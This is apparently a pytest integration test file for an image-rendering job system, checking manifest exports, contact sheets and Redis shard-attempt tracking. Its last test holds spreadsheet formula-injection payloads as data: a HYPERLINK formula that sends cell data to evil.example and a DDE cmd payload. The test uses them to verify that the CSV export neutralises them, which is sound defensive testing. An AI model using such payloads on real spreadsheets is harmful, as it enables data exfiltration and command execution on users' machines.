"""results --manifest (Parquet, JSON Lines, CSV, streamed) and --contact-sheet."""

from __future__ import annotations

import csv
import json
import time
import tracemalloc
from pathlib import Path

import pyarrow.parquet as pq
import pytest
import redis
from PIL import Image

from dispatcher.views.manifest import manifest_rows, write_manifest
from renderfleet import keys, spec
from renderfleet.embedded import RedisServerProcess
from renderfleet.spec import JobSpec, RenderParams
from renderfleet.store import LocalStore
from testing.fleet import (
    TINY,
    WorkerProc,
    base_env,
    bench,
    bench_worker,
    cli,
    job_status,
    status_now,
    wait_for,
    worker_ready,
)

pytestmark = pytest.mark.integration


def test_manifest_in_three_formats_and_a_contact_sheet(tmp_path: Path, redis_server: RedisServerProcess) -> None:
    env = base_env(tmp_path, redis_server.url, str(tmp_path / "store"))
    lines = [json.dumps({"prompt": f"a fox, take {i}", **({"id": "hero", "seed": 7} if i == 2 else {})}) for i in range(6)]
    (tmp_path / "p.jsonl").write_text("\n".join(lines) + "\n")
    worker = WorkerProc(env, tmp_path / "worker.log")
    try:
        wait_for(lambda: worker_ready(redis.Redis.from_url(redis_server.url), 1), 90, what="worker")
        job = cli(env, "submit", str(tmp_path / "p.jsonl"), *TINY, "--shard-size", "3").stdout.split()[-1]
        wait_for(lambda: status_now(env, job)["done"] == 6, 120, interval=0.25, what="the job")
    finally:
        worker.kill()
    (tmp_path / "store" / "jobs" / job / "images" / "000004.png").unlink()  # one gone missing

    for name in ("m.parquet", "m.jsonl", "m.csv"):
        out = cli(env, "results", job, "--manifest", str(tmp_path / name))
        assert "6 rows" in out.stderr
    folder = tmp_path / "store" / "jobs" / job / "images"
    sizes = {p.stem: p.stat().st_size for p in folder.iterdir()}
    assert f", {sum(sizes.values()) / 5:,.0f} bytes per image (mean of 5)" in out.stderr
    rows = pq.read_table(tmp_path / "m.parquet").to_pylist()
    assert rows == [json.loads(line) for line in (tmp_path / "m.jsonl").read_text().splitlines()]
    with open(tmp_path / "m.csv", newline="") as f:
        assert [r["id"] for r in csv.DictReader(f)] == [r["id"] for r in rows]
    assert [r["id"] for r in rows] == ["000000", "000001", "hero", "000003", "000004", "000005"]
    hero = rows[2]
    assert hero["seed"] == 7 and hero["steps"] == 2 and hero["width"] == 32 and hero["model"] == "tiny"
    assert hero["status"] == "done" and hero["image"].endswith(f"jobs/{job}/images/hero.png")
    assert rows[4]["status"] == "missing" and rows[4]["image"] == "" and rows[4]["bytes"] is None
    assert [r["bytes"] for r in rows if r["status"] == "done"] == [sizes[r["id"]] for r in rows if r["id"] in sizes]
    assert (hero["loras"], hero["revision"], hero["variant"], hero["model_digest"]) == ("", "", "", "")
    assert all(r["shard_attempts"] >= 1 for r in rows)  # every shard was handed to a worker

    cli(env, "results", job, "--contact-sheet", str(tmp_path / "sheet.png"))
    with Image.open(tmp_path / "sheet.png") as img:
        assert img.format == "PNG" and img.width == 5 * 128  # five images, one row
        # a 32x32 render fills its 128 px cell, its own pixels enlarged: no white margin around it
        with Image.open(tmp_path / "store" / "jobs" / job / "images" / "000000.png") as first:
            filled = first.convert("RGB").resize((128, 128), Image.Resampling.NEAREST)
        assert img.convert("RGB").crop((0, 0, 128, 128)).tobytes() == filled.tobytes()

    bad = cli(env, "results", job, "--manifest", str(tmp_path / "m.xlsx"), check=False)
    assert bad.returncode == 2 and "--manifest" in bad.stderr and not (tmp_path / "m.xlsx").exists()


def test_shard_attempts_come_from_the_embedded_server_and_are_empty_when_redis_forgot(tmp_path: Path) -> None:
    # the `make run` path: no RENDERFLEET_REDIS_URL, the embedded server under RENDERFLEET_HOME; a
    # worker on a bench model (testing.fleet.bench_worker): the rows' attempts are the point, not pixels.
    # Also the job's name (issue 41, item 6) shown by status and taken back by results, and each
    # prompt's record (item 5) in results --json and the manifest.
    env = base_env(tmp_path, "", str(tmp_path / "store"), **bench_worker(0.02))
    del env["RENDERFLEET_REDIS_URL"]
    (tmp_path / "p.txt").write_text("".join(f"a heron, take {i}\n" for i in range(4)))
    cli(env, "server", "start", timeout=60)
    try:
        client = redis.Redis.from_url(cli(env, "server", "url", "--show-password").stdout.strip())
        worker = WorkerProc(env, tmp_path / "worker.log")
        try:
            wait_for(lambda: worker_ready(client, 1), 90, what="worker")
            args = ("--shard-size", "2", "--name", "herons at dawn", "--priority", "7")
            job = cli(env, "submit", str(tmp_path / "p.txt"), *bench(0.02), *args).stdout.split()[-1]
            wait_for(lambda: job_status(env, job)["done"] == 4, 120, interval=1.0, what="the job")  # no URL: the CLI's
        finally:
            worker.kill()
        [shown] = json.loads(cli(env, "status", "herons at dawn", "--json").stdout)["jobs"]  # by its name
        assert (shown["job"], shown["name"], shown["priority"]) == (job, "herons at dawn", 7)
        assert shown["submitted"] == pytest.approx(time.time(), abs=300)
        client.hset(keys.prices(spec.store_tag(env["RENDERFLEET_STORE"])), "default", "3.6")  # as a config publishes it
        cli(env, "results", job, "--manifest", str(tmp_path / "m.jsonl"))
        rows = [json.loads(line) for line in (tmp_path / "m.jsonl").read_text().splitlines()]
        assert [r["status"] for r in rows] == ["done"] * 4
        claims = {int(k): int(v) for k, v in client.hgetall(keys.attempts(job)).items()}
        assert [r["shard_attempts"] for r in rows] == [claims[i // 2] for i in range(4)]
        assert all(r["shard_attempts"] >= 1 for r in rows), rows
        # each prompt's record: the attempt that rendered it, the card, the batch's seconds per image (the
        # bench model's 0.02 and a little), its cost at the pool's $3.60 an hour (a thousandth of its seconds)
        assert [r["attempt"] for r in rows] == [r["shard_attempts"] for r in rows]
        # the bench model renders on no device: its card says so (worker.accounting.speeds.card_for), as its speed records do
        assert all(r["card"] == "none (bench model)" and 0.02 <= r["seconds"] < 1 for r in rows), rows
        assert all(r["cost"] == pytest.approx(r["seconds"] / 1000, rel=1e-3) for r in rows), rows
        (tmp_path / "store" / "jobs" / job / "images" / "000003.png").unlink()
        listed = json.loads(cli(env, "results", "herons at dawn", "--json", check=False).stdout)  # by its name
        assert listed["job"] == job and listed["missing"] == ["000003"]
        records = listed["prompts"]
        assert [r["state"] for r in records.values()] == ["done", "done", "done", "pending"]
        assert {k: records["000000"][k] for k in ("attempt", "card", "seconds", "cost")} == {
            k: rows[0][k] for k in ("attempt", "card", "seconds", "cost")
        }
        client.flushall()  # a Redis that lost its memory: attempts unknown, not "never tried"
        cli(env, "results", job, "--manifest", str(tmp_path / "lost.parquet"))
        assert [r["shard_attempts"] for r in pq.read_table(tmp_path / "lost.parquet").to_pylist()] == [None] * 4
    finally:
        cli(env, "server", "stop")


def test_a_manifest_of_a_hundred_thousand_prompts_streams(tmp_path: Path) -> None:
    store = LocalStore(tmp_path / "store")
    n = 100_000
    job = JobSpec(
        job="j-big",
        params=RenderParams(model="tiny"),
        total=n,
        shard_size=64,
        batch_size=4,
        prompts_key=spec.source_key("j-big", "txt", False),
    )
    source = tmp_path / "p.txt"
    source.write_text("".join(f"prompt number {i}, in a long and winding sentence\n" for i in range(n)))
    store.put_file(job.prompts_key, source)
    store.put(spec.spec_key(job.job), job.to_json().encode())
    tracemalloc.start()
    count = write_manifest(manifest_rows(store, job.job), tmp_path / "big.parquet")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert count == n and pq.read_metadata(tmp_path / "big.parquet").num_rows == n
    # 100,000 rows held at once would be ~60 MB of Python objects; a batch is 10,000
    assert peak < 30 * 2**20, f"peak {peak / 2**20:.1f} MiB"


def test_a_manifest_lists_the_jobs_images_once(tmp_path: Path) -> None:
    # A job of a million images is a thousand pages of an S3 listing: one listing gives both
    # where each image is and its size (the bytes column).
    listed: list[str] = []

    class CountingStore(LocalStore):  # each listing, whichever call makes it (sized lists without list)
        def list(self, prefix: str):  # type: ignore[no-untyped-def]
            listed.append(prefix)
            return super().list(prefix)

        def sized(self, prefix: str):  # type: ignore[no-untyped-def]
            listed.append(prefix)
            return super().sized(prefix)

    store = CountingStore(tmp_path / "store")
    job = JobSpec(
        job="j-few",
        params=RenderParams(model="tiny"),
        total=3,
        shard_size=2,
        batch_size=2,
        prompts_key=spec.source_key("j-few", "txt", False),
    )
    source = tmp_path / "p.txt"
    source.write_text("a\nb\nc\n")
    store.put_file(job.prompts_key, source)
    store.put(spec.spec_key(job.job), job.to_json().encode())
    store.put(spec.images_prefix(job.job) + spec.index_name(0) + ".png", b"png bytes")
    rows = list(manifest_rows(store, job.job))
    assert [(r["status"], r["bytes"]) for r in rows] == [("done", 9), ("missing", None), ("missing", None)]
    assert listed.count(spec.images_prefix(job.job)) == 1, listed


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def test_a_csv_manifest_cell_that_a_spreadsheet_would_run_as_a_formula_opens_as_text(tmp_path: Path) -> None:
    store = LocalStore(tmp_path / "store")
    lines = [json.dumps({"prompt": text, "negative_prompt": text}) for text in FORMULAS]
    lines.append(json.dumps({"prompt": "a fox = a dog - a cat", "negative_prompt": "'quoted' already"}))
    job = JobSpec(
        job="j-csv",
        params=RenderParams(model="tiny"),
        total=len(lines),
        shard_size=4,
        batch_size=2,
        prompts_key=spec.source_key("j-csv", "jsonl", False),
    )
    source = tmp_path / "p.jsonl"
    source.write_text("\n".join(lines) + "\n")
    store.put_file(job.prompts_key, source)
    store.put(spec.spec_key(job.job), job.to_json().encode())
    for name in ("m.csv", "m.parquet", "m.jsonl"):
        write_manifest(manifest_rows(store, job.job), tmp_path / name)
    with open(tmp_path / "m.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    expected = [f"'{text}" for text in FORMULAS] + ["a fox = a dog - a cat"]
    assert [r["prompt"] for r in rows] == expected
    assert [r["negative_prompt"] for r in rows] == [*expected[:-1], "'quoted' already"]
    assert rows[0]["index"] == "0" and rows[0]["status"] == "missing"  # numbers and words untouched
    # Parquet and JSON Lines are data, never evaluated: the prompts exactly as submitted.
    plain = [*FORMULAS, "a fox = a dog - a cat"]
    assert [r["prompt"] for r in pq.read_table(tmp_path / "m.parquet").to_pylist()] == plain
    assert [json.loads(line)["prompt"] for line in (tmp_path / "m.jsonl").read_text().splitlines()] == plain
